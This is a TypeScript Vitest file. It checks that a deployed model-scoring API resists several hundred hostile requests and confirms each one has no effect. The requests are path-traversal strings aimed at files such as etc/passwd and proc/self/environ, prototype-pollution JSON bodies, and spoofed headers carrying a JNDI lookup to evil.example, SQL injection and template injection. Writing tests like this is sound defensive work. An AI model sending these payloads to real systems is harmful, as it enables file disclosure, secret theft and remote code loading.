import { expect, test } from 'vitest';
import { createTestApp } from './deployed-api.ts';

const STEPS = [
  '../',
  '..%2f',
  '..%5c',
  '%2e%2e/',
  '%252e%252e%252f',
  '....//',
  '..;/',
  '%c0%ae%c0%ae/',
  '..%00/',
  './/',
];
const GOALS = [
  'etc/passwd',
  'config.json',
  'models/journal.jsonl',
  'deployment/current.json',
  '.git/config',
  'proc/self/environ',
];
const BASES = ['/', '/models/', '/report.pdf/', '/v2/models/', '/docs/', '/runs/'];

/** Paths that climb out of where they begin. */
const PATHS = BASES.flatMap((base) =>
  STEPS.flatMap((step) => GOALS.map((goal) => `${base}${step.repeat(3)}${goal}`)),
);

const POLLUTIONS = [
  '__proto__',
  'constructor',
  'prototype',
  'constructor.prototype',
  '__defineGetter__',
  'toString',
];

/** Bodies that would give every object a property, were they merged into one. */
const BODIES = POLLUTIONS.flatMap((name) => [
  `{"rows":[{"${name}":{"polluted":1},"age":1,"plan":"x"}]}`,
  `{"${name}":{"polluted":1},"rows":[{"age":1,"plan":"x"}]}`,
  `{"rows":{"${name}":[{"age":1}]}}`,
  `{"dataframe_split":{"columns":["${name}","age","plan"],"data":[[{"polluted":1},1,"x"]]}}`,
  `{"inputs":{"${name}":[{"polluted":1}],"age":[1],"plan":["x"]}}`,
  `{"inputs":[{"name":"${name}","shape":[1],"datatype":"BYTES","data":[{"polluted":1}]}]}`,
]);

const HEADERS: readonly (readonly [string, string])[] = [
  ...[
    'x-forwarded-for',
    'x-forwarded-host',
    'x-original-url',
    'x-rewrite-url',
    'x-http-method-override',
    'forwarded',
  ],
].flatMap((name) =>
  [
    '127.0.0.1',
    '/etc/passwd',
    'DELETE',
    'evil.example',
    '${jndi:ldap://evil.example/a}',
    "' OR 1=1",
    '{{7*7}}',
    '\t',
  ].map((value) => [name, value] as const),
);

test('paths that climb, bodies that pollute and headers that lie: more than 500 of them, and none has an effect', () => {
  expect(PATHS.length + BODIES.length * 3 + HEADERS.length).toBeGreaterThan(500);
});

test('no path leads out', async () => {
  const { app, faults } = createTestApp();
  for (const path of PATHS) {
    const response = await app.request(path);
    expect([path, response.status]).toEqual([path, 404]);
    expect(await response.text()).not.toMatch(/root:|"journal|\[core\]/);
  }
  expect(faults).toEqual([]);
});

test('no body reaches the prototype of anything', async () => {
  const { app, faults } = createTestApp();
  for (const body of BODIES) {
    for (const path of ['/prediction', '/invocations', '/v2/models/dynamic-risk/infer']) {
      const init = { method: 'POST', headers: { 'content-type': 'application/json' }, body };
      const response = await app.request(path, init);
      expect([path, body, response.status < 500]).toEqual([path, body, true]);
      expect(await response.text()).not.toContain('"polluted"');
      expect(({} as { readonly polluted?: unknown }).polluted).toBeUndefined();
    }
  }
  expect(faults).toEqual([]);
});

test('no header changes what is answered', async () => {
  const { app } = createTestApp();
  const plain = await (await app.request('/scoring')).text();
  for (const [name, value] of HEADERS) {
    const response = await app.request('/scoring', { headers: { [name]: value } });
    expect([name, value, await response.text()]).toEqual([name, value, plain]);
  }
});
